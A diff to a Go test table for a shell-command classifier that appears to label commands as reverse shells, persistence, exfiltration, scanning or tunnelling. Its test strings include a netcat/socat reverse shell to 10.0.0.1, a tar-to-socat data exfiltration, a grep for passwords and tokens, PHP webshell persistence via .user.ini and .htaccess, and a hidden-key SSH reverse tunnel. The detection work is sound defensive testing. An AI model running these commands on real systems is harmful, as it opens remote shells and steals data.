@@ -28,6 +28,11 @@ func TestClassify(t *testing.T) {
 		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
 		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
 		{"crontab -", classPersistence},
+		{"crontab -r; rm -f /var/tmp/.kbc", classExfilImpact}, // the chain's cleanup
+		{"grep -r -i -E 'pass|token|secret' /srv/app/conf", classSuspicious},
+		{"grep -r -i vpn /srv/kb/data", classNone}, // a reader's search
+		{"timeout 3 socat -T 2 -u TCP:127.0.0.1:22 STDOUT", classScan},
+		{"tar czf - /srv | socat -u - TCP:10.0.0.1:9002", classExfilImpact},
 		{"printf 'auto_prepend_file=/srv/www/cache/.s.php\\n' > /srv/www/.user.ini", classPersistence},
 		{"echo 'AddType application/x-httpd-php .jpg' >> uploads/.htaccess", classPersistence},
 		{"setsid -f ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 127.0.0.1:18070:127.0.0.1:8070 u@127.0.0.1", classTunnel},
